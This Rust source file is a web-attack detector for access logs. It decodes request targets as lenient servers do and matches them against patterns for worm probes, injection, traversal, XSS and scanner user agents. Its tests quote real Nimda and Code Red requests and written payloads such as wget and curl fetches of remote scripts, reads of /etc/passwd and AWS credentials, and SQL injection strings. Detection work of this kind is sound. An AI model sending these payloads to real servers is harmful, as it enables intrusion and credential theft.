//! Web attacks in access-log requests: patterns in the method, target and user agent, matched
//! on the target decoded the way servers decode it (percent and double percent encoding,
//! IIS `%u`, overlong UTF-8, backslashes), and the server's answer.

use std::collections::{BTreeMap, HashMap, HashSet};

use rayon::prelude::*;

use crate::events::EventTable;

use super::{push_evidence, quote, Finding, FindingKind, EVIDENCE};

/// Where a pattern looks.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Place {
    /// The decoded, lower-cased request target, whitespace collapsed.
    Target,
    /// The lower-cased user agent.
    Agent,
}

/// One attack pattern: a kind and the text that marks it.
struct Pattern {
    kind: FindingKind,
    place: Place,
    needle: &'static str,
}

const fn target(kind: FindingKind, needle: &'static str) -> Pattern {
    Pattern {
        kind,
        place: Place::Target,
        needle,
    }
}

const fn agent(needle: &'static str) -> Pattern {
    Pattern {
        kind: FindingKind::ScannerAgent,
        place: Place::Agent,
        needle,
    }
}

use FindingKind::{
    CrossSiteScripting as Xss, ExploitProbe as Probe, FileInclusion as Include,
    PathTraversal as Traversal, SqlInjection as Sql, WebCommandExecution as Exec,
    WormProbe as Worm,
};

/// The patterns, as data: each has a test on a real or published request line.
const PATTERNS: &[Pattern] = &[
    // Nimda and Code Red (2001): IIS backdoors, traversal to cmd.exe, the .ida overflow.
    target(Worm, "/winnt/system32/cmd.exe"),
    target(Worm, "/root.exe?/c"),
    target(Worm, "/default.ida?"),
    target(Worm, "/_vti_bin/../"),
    target(Worm, "/_mem_bin/../"),
    target(Worm, "/msadc/../"),
    target(Worm, "/scripts/../"),
    target(Exec, "cmd.exe"),
    target(Exec, "command.com"),
    target(Exec, "/bin/sh"),
    target(Exec, "/bin/bash"),
    target(Exec, "/bin/busybox"),
    target(Exec, ";wget "),
    target(Exec, "|wget "),
    target(Exec, "$(wget"),
    target(Exec, "`wget"),
    target(Exec, ";curl "),
    target(Exec, "|curl "),
    target(Exec, "powershell"),
    target(Exec, "shell_exec("),
    target(Exec, "passthru("),
    target(Traversal, "../"),
    target(Traversal, "/etc/passwd"),
    target(Traversal, "/etc/shadow"),
    target(Traversal, "boot.ini"),
    target(Traversal, "win.ini"),
    target(Traversal, "/proc/self/environ"),
    target(Sql, "union select"),
    target(Sql, "union all select"),
    target(Sql, "' or '1'='1"),
    target(Sql, "' or 1=1"),
    target(Sql, "\" or 1=1"),
    target(Sql, " or 1=1--"),
    target(Sql, "' and 1=1"),
    target(Sql, "sleep("),
    target(Sql, "benchmark("),
    target(Sql, "information_schema"),
    target(Sql, "@@version"),
    target(Sql, "waitfor delay"),
    target(Sql, "xp_cmdshell"),
    target(Sql, "concat(0x"),
    target(Xss, "<script"),
    target(Xss, "javascript:"),
    target(Xss, "onerror="),
    target(Xss, "onload="),
    target(Xss, "<svg"),
    target(Xss, "<iframe"),
    target(Xss, "document.cookie"),
    target(Xss, "alert("),
    target(Include, "php://"),
    target(Include, "file://"),
    target(Include, "expect://"),
    target(Include, "data://text"),
    target(Probe, "/cgi-bin/"),
    target(Probe, "nsiislog.dll"),
    target(Probe, "phpmyadmin"),
    target(Probe, "/pma/"),
    target(Probe, "wp-login.php"),
    target(Probe, "xmlrpc.php"),
    target(Probe, "/.env"),
    target(Probe, "/.git/"),
    target(Probe, "/.aws/"),
    target(Probe, "formmail"),
    target(Probe, "awstats"),
    target(Probe, "/muieblackcat"),
    target(Probe, "/muie"),
    target(Probe, "/manager/html"),
    target(Probe, "/hnap1"),
    target(Probe, "/boaform"),
    target(Probe, "/vendor/phpunit"),
    target(Probe, "/iisadmpwd"),
    target(Probe, "/_vti_pvt"),
    target(Probe, "/_vti_inf.html"),
    agent("sqlmap"),
    agent("nikto"),
    agent("zgrab"),
    agent("masscan"),
    agent("nmap"),
    agent("zmeu"),
    agent("morfeus"),
    agent("dirbuster"),
    agent("gobuster"),
    agent("wpscan"),
    agent("acunetix"),
    agent("nessus"),
    agent("openvas"),
    agent("nuclei"),
    agent("w3af"),
    agent("havij"),
    agent("netsparker"),
    agent("jorgee"),
    agent("fimap"),
];

/// Targets longer than this are an overflow attempt, whatever the server answered.
const OVERSIZED: usize = 2048;

/// One parsed request.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WebRequest<'a> {
    /// The method, as sent.
    pub method: &'a str,
    /// The target, as logged.
    pub target: &'a str,
    /// The status code.
    pub status: Option<u16>,
}

impl<'a> WebRequest<'a> {
    /// The request of `row`, when it is a web request with a request line.
    pub fn of(t: &'a EventTable, row: usize) -> Option<WebRequest<'a>> {
        if t.app_protocol(row) != Some("http") {
            return None;
        }
        let line = t.detail_plain(row)?;
        let (method, rest) = line.split_once(' ')?;
        if method.is_empty() || !method.bytes().all(|b| b.is_ascii_uppercase() || b == b'-') {
            return None;
        }
        let target = match rest.rsplit_once(' ') {
            Some((t, v)) if v.starts_with("HTTP/") => t,
            _ => rest,
        };
        Some(WebRequest {
            method,
            target,
            status: t.outcome(row).and_then(|s| s.parse().ok()),
        })
    }

    /// The request line for a sentence: method and target, quoted.
    fn quoted(&self) -> String {
        quote(&format!("{} {}", self.method, self.target))
    }
}

/// The value of hexadecimal digit `b`.
fn hex(b: u8) -> Option<u8> {
    (b as char).to_digit(16).map(|d| d as u8)
}

/// One round of percent decoding (and IIS's `%uXXXX`), on bytes.
fn percent_round(input: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(input.len());
    let mut i = 0;
    while i < input.len() {
        let b = input[i];
        if b == b'%' {
            if let (Some(h), Some(l)) = (
                input.get(i + 1).copied().and_then(hex),
                input.get(i + 2).copied().and_then(hex),
            ) {
                out.push(h << 4 | l);
                i += 3;
                continue;
            }
            if matches!(input.get(i + 1), Some(b'u' | b'U')) {
                let digits: Option<Vec<u8>> = (2..6)
                    .map(|k| input.get(i + k).copied().and_then(hex))
                    .collect();
                if let Some(d) = digits {
                    let code = d.iter().fold(0u32, |a, &x| a << 4 | x as u32);
                    let c = char::from_u32(code).unwrap_or('\u{fffd}');
                    let mut buf = [0; 4];
                    out.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
                    i += 6;
                    continue;
                }
            }
        }
        out.push(b);
        i += 1;
    }
    out
}

/// Decodes a request target the way a lenient server does, for matching: up to three rounds
/// of percent decoding (`%255c` is `%5c` is `\`), overlong two-byte UTF-8 (`%c0%af` is `/`,
/// `%c1%1c` is `\`), backslashes as slashes, `+` and runs of whitespace or `/**/` as one
/// space, lower case.
pub fn decode_target(target: &str) -> String {
    // The log's text keeps undecodable bytes as Latin-1 characters: back to bytes.
    let mut bytes: Vec<u8> = target
        .chars()
        .flat_map(|c| {
            let mut buf = [0; 4];
            if (c as u32) < 256 {
                vec![c as u32 as u8]
            } else {
                c.encode_utf8(&mut buf).as_bytes().to_vec()
            }
        })
        .collect();
    for _ in 0..3 {
        let next = percent_round(&bytes);
        if next == bytes {
            break;
        }
        bytes = next;
    }
    let mut out = String::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        let c = match (b, bytes.get(i + 1)) {
            (0xc0 | 0xc1, Some(&n)) => {
                i += 1;
                char::from(((b & 0x1f) << 6) | (n & 0x3f))
            }
            _ => char::from(b),
        };
        i += 1;
        let c = match c {
            '\\' => '/',
            '+' => ' ',
            c if c.is_whitespace() => ' ',
            c => c.to_ascii_lowercase(),
        };
        if c == ' ' && out.ends_with(' ') {
            continue;
        }
        out.push(c);
    }
    out.replace("/**/", " ")
}

/// Whether a decoded target names a remote script for inclusion: a parameter whose value is
/// a URL ending in `?` or naming a `.txt` file (`?page=http://host/shell.txt?`).
fn remote_include(decoded: &str) -> bool {
    let Some((_, query)) = decoded.split_once('?') else {
        return false;
    };
    query.split('&').any(|pair| {
        let value = pair.split_once('=').map_or("", |(_, v)| v);
        ["http://", "https://", "ftp://"]
            .iter()
            .any(|s| value.starts_with(s))
            && (value.ends_with('?') || value.contains(".txt"))
    })
}

/// What follows the scheme of an absolute-URI target (`host:port/path`), if it is one.
pub(super) fn after_scheme(target: &str) -> Option<&str> {
    target
        .strip_prefix("http://")
        .or_else(|| target.strip_prefix("https://"))
}

/// The host of an absolute-URI target (`http://host:port/...`), lower-cased.
fn absolute_host(target: &str) -> Option<String> {
    let rest = after_scheme(target)?;
    let host = rest.split(['/', '?']).next()?;
    Some(
        host.rsplit_once(':')
            .map_or(host, |(h, _)| h)
            .to_ascii_lowercase(),
    )
}

/// What the web findings of every source share: the attack kinds of each distinct request
/// detail (a log repeats the same requests many times over; each is matched once).
pub struct WebContext {
    kinds: HashMap<u32, Vec<FindingKind>>,
}

impl WebContext {
    /// The kinds of every distinct web request of `t`, matched in parallel.
    pub fn of(t: &EventTable) -> WebContext {
        WebContext::with_site(t, &site_hosts(&referer_sources(t)))
    }

    /// [`WebContext::of`], the site's own hosts given (those of the whole log, when `t` is
    /// one shard of it).
    pub fn with_site(t: &EventTable, site: &HashSet<String>) -> WebContext {
        let mut first: HashMap<u32, usize> = HashMap::new();
        for row in 0..t.len() {
            if t.app_protocol(row) == Some("http") {
                if let Some(id) = t.detail_id(row) {
                    first.entry(id).or_insert(row);
                }
            }
        }
        let kinds = first
            .into_par_iter()
            .filter_map(|(id, row)| {
                let req = WebRequest::of(t, row)?;
                Some((id, kinds_of(&req, t.detail_value(row, "ua"), site)))
            })
            .collect();
        WebContext { kinds }
    }

    /// The kinds the request of `row` shows.
    fn kinds(&self, t: &EventTable, row: usize) -> &[FindingKind] {
        t.detail_id(row)
            .and_then(|id| self.kinds.get(&id))
            .map_or(&[], Vec::as_slice)
    }
}

/// The hosts in the absolute referers of the web requests of `t`, each with the number of
/// distinct sources that sent them: shards of a log, whose sources are apart, add up.
pub fn referer_sources(t: &EventTable) -> HashMap<String, usize> {
    let mut by_host: BTreeMap<String, HashSet<u32>> = BTreeMap::new();
    for row in 0..t.len() {
        if t.app_protocol(row) != Some("http") {
            continue;
        }
        let (Some(referer), Some(src)) = (t.detail_value(row, "referer"), t.source_ip_id(row))
        else {
            continue;
        };
        if let Some(h) = absolute_host(referer) {
            by_host.entry(h).or_default().insert(src);
        }
    }
    by_host.into_iter().map(|(h, s)| (h, s.len())).collect()
}

/// The hosts the site itself answers to: those in the referers of at least three sources.
pub fn site_hosts(referers: &HashMap<String, usize>) -> HashSet<String> {
    referers
        .iter()
        .filter(|(_, &n)| n >= 3)
        .map(|(h, _)| h.clone())
        .collect()
}

/// The kinds a request shows.
fn kinds_of(req: &WebRequest<'_>, agent: Option<&str>, site: &HashSet<String>) -> Vec<FindingKind> {
    let decoded = decode_target(req.target);
    let agent = agent.map(str::to_ascii_lowercase);
    let mut kinds: Vec<FindingKind> = PATTERNS
        .iter()
        .filter(|p| match p.place {
            Place::Target => decoded.contains(p.needle),
            Place::Agent => agent.as_deref().is_some_and(|a| a.contains(p.needle)),
        })
        .map(|p| p.kind)
        .collect();
    if remote_include(&decoded) {
        kinds.push(FindingKind::FileInclusion);
    }
    if req.target.len() > OVERSIZED {
        kinds.push(FindingKind::OversizedRequest);
    }
    let foreign = absolute_host(req.target).is_some_and(|h| !site.contains(&h));
    if req.method == "CONNECT" || foreign {
        kinds.push(FindingKind::ProxyUse);
    }
    kinds.sort();
    kinds.dedup();
    kinds
}

/// A source asking for at least this many distinct missing pages, with most of its requests
/// missing, is running a wordlist.
const WORDLIST_PAGES: usize = 10;

/// Web findings over the rows of one source.
pub fn findings(t: &EventTable, rows: &[u32], web: &WebContext) -> Vec<Finding> {
    let mut hits: BTreeMap<FindingKind, Vec<(u32, WebRequest<'_>)>> = BTreeMap::new();
    let mut missing: Vec<(u32, WebRequest<'_>)> = Vec::new();
    let mut requests = 0;
    for &r in rows {
        let row = r as usize;
        let Some(req) = WebRequest::of(t, row) else {
            continue;
        };
        requests += 1;
        let kinds = web.kinds(t, row);
        // A request an attack pattern names is told by that finding, not as a missing page.
        if kinds.is_empty() && matches!(req.status, Some(404 | 410)) {
            missing.push((r, req.clone()));
        }
        for &k in kinds {
            hits.entry(k).or_default().push((r, req.clone()));
        }
    }
    let mut out: Vec<Finding> = hits
        .into_iter()
        .map(|(kind, reqs)| finding(t, kind, &reqs))
        .collect();
    out.extend(wordlist(&missing, requests));
    out
}

/// Wordlist scanning: many distinct pages that do not exist and that no attack pattern names,
/// most of the source's requests.
fn wordlist(missing: &[(u32, WebRequest<'_>)], requests: usize) -> Option<Finding> {
    let mut pages: BTreeMap<&str, usize> = BTreeMap::new();
    let mut evidence = Vec::new();
    for (_, req) in missing {
        *pages.entry(req.target).or_default() += 1;
        if evidence.len() < EVIDENCE {
            push_evidence(&mut evidence, &format!("{} {}", req.method, req.target));
        }
    }
    if pages.len() < WORDLIST_PAGES || 2 * missing.len() < requests {
        return None;
    }
    let quoted: Vec<String> = evidence.iter().take(3).map(|e| quote(e)).collect();
    let share = 100.0 * missing.len() as f64 / requests as f64;
    let rounds = pages.values().min().copied().unwrap_or(1);
    let mut summary = format!(
        "{} requests for {} pages that do not exist, such as {} ({share:.0}% of its requests \
         answered not found)",
        missing.len(),
        pages.len(),
        quoted.join(", ")
    );
    if rounds > 1 {
        summary.push_str(&format!("; every page asked for at least {rounds} times"));
    }
    Some(Finding::new(
        FindingKind::WordlistScan,
        summary,
        evidence,
        missing.iter().map(|m| m.0).collect(),
    ))
}

fn finding(t: &EventTable, kind: FindingKind, reqs: &[(u32, WebRequest<'_>)]) -> Finding {
    let mut evidence = Vec::new();
    let mut statuses: BTreeMap<u16, usize> = BTreeMap::new();
    let mut quoted = Vec::new();
    for (r, req) in reqs {
        let line = if kind == FindingKind::ScannerAgent {
            t.detail_value(*r as usize, "ua").unwrap_or("").to_string()
        } else {
            format!("{} {}", req.method, req.target)
        };
        if evidence.len() < 3 && !evidence.contains(&line) {
            quoted.push(if kind == FindingKind::ScannerAgent {
                quote(&line)
            } else {
                req.quoted()
            });
        }
        push_evidence(&mut evidence, &line);
        if let Some(s) = req.status {
            *statuses.entry(s).or_default() += 1;
        }
    }
    let n = reqs.len();
    let requests = if n == 1 { "request" } else { "requests" };
    let distinct = evidence.len();
    let lead = match kind {
        FindingKind::ScannerAgent => format!("{n} {requests} from a scanner's user agent"),
        FindingKind::OversizedRequest => format!("{n} oversized {requests}"),
        _ => format!("{n} {requests}"),
    };
    let such = if distinct > quoted.len() {
        "such as "
    } else {
        ""
    };
    let answered: Vec<String> = statuses
        .iter()
        .map(|(s, c)| {
            if *c == 1 {
                s.to_string()
            } else {
                format!("{s} ×{c}")
            }
        })
        .collect();
    // A success with a body: an empty 200 is a server shrugging, not a payload answered.
    let answered_ok =
        |(_, req): &&(u32, WebRequest<'_>)| req.status.is_some_and(|s| (200..300).contains(&s));
    let succeeded = reqs
        .iter()
        .filter(answered_ok)
        .filter(|(r, _)| t.bytes_received(*r as usize).is_some_and(|b| b > 0.0))
        .count();
    let empty = reqs.iter().filter(answered_ok).count() - succeeded;
    let mut summary = format!("{lead}, {such}{}", quoted.join(", "));
    if !answered.is_empty() {
        summary.push_str(&format!(" (answered {})", answered.join(", ")));
    }
    let exploit = !matches!(kind, FindingKind::ScannerAgent | FindingKind::ProxyUse);
    let mut f = Finding::new(kind, summary, evidence, reqs.iter().map(|r| r.0).collect());
    if empty > 0 && exploit {
        let bodies = if empty == 1 { "body" } else { "bodies" };
        f.summary.push_str(&format!(
            "; {empty} answered with success but an empty {bodies}"
        ));
    }
    if succeeded > 0 && exploit {
        f.summary.push_str(&format!(
            "; {succeeded} answered with success: possibly succeeded"
        ));
        f.severity = f.severity.raised();
        f.weight = (f.weight + 0.1).min(0.95);
    }
    f
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(method: &str, target: &str, agent: Option<&str>) -> Vec<FindingKind> {
        let req = WebRequest {
            method,
            target,
            status: None,
        };
        kinds_of(&req, agent, &HashSet::new())
    }

    #[test]
    fn targets_decode_as_iis_decoded_them() {
        assert_eq!(
            decode_target("/scripts/..%255c../winnt/system32/cmd.exe?/c+dir"),
            "/scripts/../../winnt/system32/cmd.exe?/c dir"
        );
        assert_eq!(decode_target("/scripts/..%c0%af../x"), "/scripts/../../x");
        assert_eq!(decode_target("/scripts/..%c1%9c../x"), "/scripts/../../x");
        assert_eq!(decode_target("/scripts/..%c1%1c../x"), "/scripts/../../x");
        assert_eq!(decode_target("/scripts/..%%35%63../x"), "/scripts/../../x");
        assert_eq!(
            decode_target("/scripts/..%25%35%63../x"),
            "/scripts/../../x"
        );
        assert_eq!(
            decode_target("/a?id=1%20UNION/**/SELECT"),
            "/a?id=1 union select"
        );
        assert_eq!(decode_target("/%u0041"), "/a");
        assert_eq!(decode_target("/100%"), "/100%");
    }

    #[test]
    fn nimda_paths_name_the_worm_traversal_and_command_execution() {
        use FindingKind::*;
        // The 16 requests every Nimda source sent, from honeynet-redhat71_access_log.1
        // lines 1-16 (24.215.76.171).
        let nimda = [
            "/scripts/root.exe?/c+dir",
            "/MSADC/root.exe?/c+dir",
            "/c/winnt/system32/cmd.exe?/c+dir",
            "/d/winnt/system32/cmd.exe?/c+dir",
            "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
            "/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
            "/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
            "/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir",
            "/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
            "/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir",
            "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
            "/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir",
            "/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir",
            "/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir",
            "/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir",
            "/scripts/..%252f../winnt/system32/cmd.exe?/c+dir",
        ];
        for (i, p) in nimda.iter().enumerate() {
            let k = kinds("GET", p, None);
            assert!(k.contains(&WormProbe), "{p}: {k:?}");
            if i >= 4 {
                assert!(k.contains(&PathTraversal), "{p}: {k:?}");
            }
            if i >= 2 {
                assert!(k.contains(&WebCommandExecution), "{p}: {k:?}");
            }
        }
        // Code Red II, honeynet-redhat71_access_log.13 line 5 (shortened).
        let red = "/default.ida?XXXXXXXX%u9090%u6858%ucbd3%u7801%u9090%u00=a";
        assert_eq!(kinds("GET", red, None), [WormProbe]);
    }

    #[test]
    fn each_pattern_family_on_real_or_published_lines() {
        use FindingKind::*;
        // honeynet-redhat71_access_log.1 line 233, 275.
        assert_eq!(
            kinds("GET", "/cgi-bin/openwebmail/userstat.pl", None),
            [ExploitProbe]
        );
        assert_eq!(kinds("GET", "/scripts/nsiislog.dll", None), [ExploitProbe]);
        // honeynet-redhat71_access_log.1 line 450: an absolute URI to another site.
        assert_eq!(kinds("GET", "http://www.yahoo.com/", None), [ProxyUse]);
        // Requests as sqlmap, Nikto and web shells send them (CRS test payloads).
        assert_eq!(
            kinds(
                "GET",
                "/item.php?id=1%27%20UNION%20ALL%20SELECT%20NULL--",
                None
            ),
            [SqlInjection]
        );
        assert_eq!(
            kinds("GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", None),
            [CrossSiteScripting]
        );
        assert_eq!(
            kinds("GET", "/index.php?page=../../../../etc/passwd", None),
            [PathTraversal]
        );
        assert_eq!(
            kinds(
                "GET",
                "/index.php?page=http://evil.example/shell.txt?",
                None
            ),
            [FileInclusion]
        );
        assert_eq!(kinds("GET", "/.env", None), [ExploitProbe]);
        assert_eq!(kinds("POST", "/wp-login.php", None), [ExploitProbe]);
        assert_eq!(
            kinds(
                "GET",
                "/",
                Some("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)")
            ),
            [ScannerAgent]
        );
        assert_eq!(
            kinds("GET", "/", Some("sqlmap/1.4.7#stable (http://sqlmap.org)")),
            [ScannerAgent]
        );
        assert_eq!(kinds("CONNECT", "example.com:443", None), [ProxyUse]);
        assert_eq!(
            kinds("SEARCH", &format!("/{}", "\u{90}".repeat(8184)), None),
            [OversizedRequest]
        );
        // Ordinary requests from hackers-access.log: the Plone login redirect to the site
        // itself is no inclusion (line 17's target, without the absolute URI).
        assert!(kinds(
            "GET",
            "/acl_users/credentials_cookie_auth/require_login?came_from=http%3A//niels.basj.es/join_form",
            None
        )
        .is_empty());
        assert!(kinds(
            "GET",
            "/index.php",
            Some("Mozilla/4.0 (compatible; MSIE 6.0; Windows 98)")
        )
        .is_empty());
        assert!(kinds("GET", "/", None).is_empty());
    }

    /// One sample per pattern: (needle, method, target, user agent). Samples marked with a
    /// file and line are real requests from `../shared/data/web-access-logs`; the others are
    /// written in the form the named attack tools and worms send, since no shared log holds
    /// them.
    const SAMPLES: &[(&str, &str, &str, Option<&str>)] = &[
        // redhat71_access_log.1 line 3.
        ("/winnt/system32/cmd.exe", "GET", "/c/winnt/system32/cmd.exe?/c+dir", None),
        // log.1 line 1.
        ("/root.exe?/c", "GET", "/scripts/root.exe?/c+dir", None),
        // log.13 line 5, shortened.
        ("/default.ida?", "GET", "/default.ida?NNNNNNNN%u9090%u6858=a", None),
        // log.1 lines 6, 7, 8, 5.
        ("/_vti_bin/../", "GET", "/_vti_bin/..%255c../..%255c../winnt/system32/cmd.exe?/c+dir", None),
        ("/_mem_bin/../", "GET", "/_mem_bin/..%255c../..%255c../winnt/system32/cmd.exe?/c+dir", None),
        ("/msadc/../", "GET", "/msadc/..%255c../..%255c/..%c1%1c../winnt/system32/cmd.exe?/c+dir", None),
        ("/scripts/../", "GET", "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", None),
        ("cmd.exe", "GET", "/c/winnt/system32/cmd.exe?/c+dir", None),
        ("command.com", "GET", "/scripts/..%c0%af../winnt/command.com?/c+dir", None),
        ("/bin/sh", "GET", "/cgi-bin/test.cgi?x=;/bin/sh+-c+id", None),
        ("/bin/bash", "GET", "/cgi-bin/status?cmd=/bin/bash%20-i", None),
        ("/bin/busybox", "GET", "/shell?cd+/tmp;/bin/busybox+MIRAI", None),
        (";wget ", "GET", "/setup.cgi?cmd=x;wget%20http://1.2.3.4/m.sh", None),
        ("|wget ", "GET", "/ping.cgi?ip=1|wget%20http://1.2.3.4/m.sh", None),
        ("$(wget", "GET", "/ping.cgi?ip=$(wget%20http://1.2.3.4/m.sh)", None),
        ("`wget", "GET", "/ping.cgi?ip=`wget%20http://1.2.3.4/m.sh`", None),
        (";curl ", "GET", "/ping.cgi?ip=1;curl%20http://1.2.3.4/m.sh", None),
        ("|curl ", "GET", "/ping.cgi?ip=1|curl%20http://1.2.3.4/m.sh", None),
        ("powershell", "GET", "/index.php?c=powershell+-enc+SQBFAFgA", None),
        ("shell_exec(", "GET", "/index.php?x=shell_exec('id')", None),
        ("passthru(", "GET", "/index.php?x=passthru('id')", None),
        // log.1 line 5.
        ("../", "GET", "/scripts/..%255c../winnt/system32/cmd.exe?/c+dir", None),
        ("/etc/passwd", "GET", "/index.php?file=/etc/passwd", None),
        ("/etc/shadow", "GET", "/index.php?file=/etc/shadow", None),
        ("boot.ini", "GET", "/index.asp?file=c:\\boot.ini", None),
        ("win.ini", "GET", "/index.asp?file=c:\\windows\\win.ini", None),
        ("/proc/self/environ", "GET", "/index.php?page=/proc/self/environ", None),
        ("union select", "GET", "/item.php?id=1+UNION+SELECT+1,2,3", None),
        ("union all select", "GET", "/item.php?id=1%20UNION%20ALL%20SELECT%20NULL--", None),
        ("' or '1'='1", "GET", "/login.php?user=admin'%20or%20'1'='1", None),
        ("' or 1=1", "GET", "/login.php?user=admin'%20or%201=1", None),
        ("\" or 1=1", "GET", "/login.php?user=admin%22%20or%201=1", None),
        (" or 1=1--", "GET", "/item.php?id=1%20or%201=1--", None),
        ("' and 1=1", "GET", "/item.php?id=1'%20and%201=1", None),
        ("sleep(", "GET", "/item.php?id=1%20AND%20SLEEP(5)", None),
        ("benchmark(", "GET", "/item.php?id=BENCHMARK(5000000,MD5(1))", None),
        ("information_schema", "GET", "/item.php?id=1+from+information_schema.tables", None),
        ("@@version", "GET", "/item.php?id=@@version", None),
        ("waitfor delay", "GET", "/item.asp?id=1;WAITFOR%20DELAY%20'0:0:5'--", None),
        ("xp_cmdshell", "GET", "/item.asp?id=1;exec%20xp_cmdshell%20'dir'", None),
        ("concat(0x", "GET", "/item.php?id=concat(0x7e,version())", None),
        ("<script", "GET", "/search?q=%3Cscript%3Ex%3C/script%3E", None),
        ("javascript:", "GET", "/go?url=javascript:x", None),
        ("onerror=", "GET", "/search?q=%3Cimg%20src=x%20onerror=x%3E", None),
        ("onload=", "GET", "/search?q=%3Cbody%20onload=x%3E", None),
        ("<svg", "GET", "/search?q=%3Csvg/x%3E", None),
        ("<iframe", "GET", "/search?q=%3Ciframe%20src=//x%3E", None),
        ("document.cookie", "GET", "/search?q=document.cookie", None),
        ("alert(", "GET", "/search?q=alert(1)", None),
        ("php://", "GET", "/index.php?page=php://filter/resource=index", None),
        ("file://", "GET", "/fetch?url=file:///etc/hosts", None),
        ("expect://", "GET", "/index.php?page=expect://id", None),
        ("data://text", "GET", "/index.php?page=data://text/plain;base64,PD8=", None),
        // log.1 line 233.
        ("/cgi-bin/", "GET", "/cgi-bin/openwebmail/userstat.pl", None),
        // log.1 line 275.
        ("nsiislog.dll", "GET", "/scripts/nsiislog.dll", None),
        ("phpmyadmin", "GET", "/phpMyAdmin/scripts/setup.php", None),
        ("/pma/", "GET", "/pma/scripts/setup.php", None),
        ("wp-login.php", "POST", "/wp-login.php", None),
        ("xmlrpc.php", "POST", "/xmlrpc.php", None),
        ("/.env", "GET", "/.env", None),
        ("/.git/", "GET", "/.git/config", None),
        ("/.aws/", "GET", "/.aws/credentials", None),
        ("formmail", "GET", "/cgi-sys/FormMail.pl", None),
        ("awstats", "GET", "/awstats/awstats.pl?configdir=x", None),
        ("/muieblackcat", "GET", "/muieblackcat", None),
        // log.1 line 234.
        ("/muie", "GET", "/muiemuiemuie/muie", None),
        ("/manager/html", "GET", "/manager/html", None),
        ("/hnap1", "GET", "/HNAP1/", None),
        ("/boaform", "POST", "/boaform/admin/formLogin", None),
        ("/vendor/phpunit", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", None),
        ("/iisadmpwd", "GET", "/iisadmpwd/aexp2.htr", None),
        ("/_vti_pvt", "GET", "/_vti_pvt/service.pwd", None),
        ("/_vti_inf.html", "GET", "/_vti_inf.html", None),
        ("sqlmap", "GET", "/", Some("sqlmap/1.4.7#stable (http://sqlmap.org)")),
        ("nikto", "GET", "/", Some("Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)")),
        ("zgrab", "GET", "/", Some("Mozilla/5.0 zgrab/0.x")),
        ("masscan", "GET", "/", Some("masscan/1.0 (https://github.com/robertdavidgraham/masscan)")),
        ("nmap", "GET", "/", Some("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)")),
        ("zmeu", "GET", "/", Some("ZmEu")),
        ("morfeus", "GET", "/", Some("Morfeus Fucking Scanner")),
        ("dirbuster", "GET", "/", Some("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)")),
        ("gobuster", "GET", "/", Some("gobuster/3.1.0")),
        ("wpscan", "GET", "/", Some("WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)")),
        ("acunetix", "GET", "/", Some("Mozilla/5.0 (compatible; Acunetix Web Vulnerability Scanner)")),
        ("nessus", "GET", "/", Some("Mozilla/5.0 (compatible; Nessus)")),
        ("openvas", "GET", "/", Some("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.3)")),
        ("nuclei", "GET", "/", Some("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)")),
        ("w3af", "GET", "/", Some("w3af.org")),
        ("havij", "GET", "/", Some("Havij")),
        ("netsparker", "GET", "/", Some("Mozilla/5.0 (compatible; Netsparker)")),
        ("jorgee", "GET", "/", Some("Mozilla/5.0 Jorgee")),
        ("fimap", "GET", "/", Some("fimap.googlecode.com")),
    ];

    #[test]
    fn every_pattern_matches_its_sample() {
        for p in PATTERNS {
            let Some((_, method, target, agent)) = SAMPLES.iter().find(|(n, ..)| *n == p.needle)
            else {
                panic!("no sample for pattern {:?}", p.needle);
            };
            assert_eq!(
                p.place == Place::Agent,
                agent.is_some(),
                "{}: sample in the wrong place",
                p.needle
            );
            let k = kinds(method, target, *agent);
            assert!(k.contains(&p.kind), "{}: {target} gave {k:?}", p.needle);
        }
        assert_eq!(SAMPLES.len(), PATTERNS.len(), "one sample per pattern");
    }

    #[test]
    fn absolute_uris_to_the_site_itself_are_no_proxy_use() {
        let site: HashSet<String> = ["howto.basjes.nl".to_string()].into();
        let req = WebRequest {
            method: "GET",
            target: "http://howto.basjes.nl/join_form",
            status: Some(200),
        };
        assert!(kinds_of(&req, None, &site).is_empty());
    }
}
